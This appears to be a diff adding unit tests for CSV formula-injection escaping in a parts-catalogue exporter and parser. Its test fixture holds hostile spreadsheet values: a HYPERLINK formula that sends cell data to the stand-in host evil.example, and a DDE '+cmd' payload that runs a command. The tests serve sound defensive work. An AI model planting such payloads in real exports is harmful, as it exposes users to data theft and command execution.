@@ -42,6 +42,65 @@ describe('partsToCsv', () => {
   });
 });
 
+describe('formula cells (CSV injection)', () => {
+  const hostile = {
+    ...part,
+    codigo: '-A1',
+    nome_pt: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
+    nome_en: "+cmd|' /C calc'!A0",
+    nome_es: "'=já com apóstrofo",
+    descricao_pt: '- começa com um traço',
+    descricao_en: '@SUM(1+1)',
+    descricao_es: '\t=1+1',
+  } as StoredPart;
+
+  it('exports every cell that would open as a formula behind an apostrophe', () => {
+    const csv = partsToCsv([hostile]);
+    const [, line] = csv.slice(1).split('\r\n');
+    expect(line).toBe(
+      [
+        "'-A1",
+        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
+        "'+cmd|' /C calc'!A0",
+        "''=já com apóstrofo",
+        "'- começa com um traço",
+        "'@SUM(1+1)",
+        "'\t=1+1",
+        'Elétrica',
+        '1234,50',
+        '12',
+      ].join(';'),
+    );
+  });
+
+  it('reads the exported cells back exactly as they were stored', () => {
+    const parsed = parseCsv(decodeCsv(Buffer.from(partsToCsv([hostile]), 'utf8')));
+    expect(parsed).toMatchObject({ ok: true });
+    if (!parsed.ok) return;
+    // The parser trims a leading tab, but behind the apostrophe the tab is inside the cell.
+    expect(parsed.rows[0]?.fields).toEqual({
+      codigo: '-A1',
+      nome_pt: hostile.nome_pt,
+      nome_en: hostile.nome_en,
+      nome_es: hostile.nome_es,
+      descricao_pt: hostile.descricao_pt,
+      descricao_en: hostile.descricao_en,
+      descricao_es: '\t=1+1',
+      categoria: 'Elétrica',
+      preco: '1234,50',
+      estoque: '12',
+    });
+  });
+
+  it('keeps an apostrophe typed before ordinary text', () => {
+    const parsed = parseCsv(`${CSV_COLUMNS.join(';')}\n'A-1;'abc;b;c;d;e;f;Mecânica;1;1\n`);
+    expect(parsed).toMatchObject({
+      ok: true,
+      rows: [{ fields: { codigo: "'A-1", nome_pt: "'abc" } }],
+    });
+  });
+});
+
 describe('decodeCsv', () => {
   it('reads UTF-8 and falls back to Windows-1252 as older Excel saves it', () => {
     expect(decodeCsv(Buffer.from('Mecânica', 'utf8'))).toBe('Mecânica');
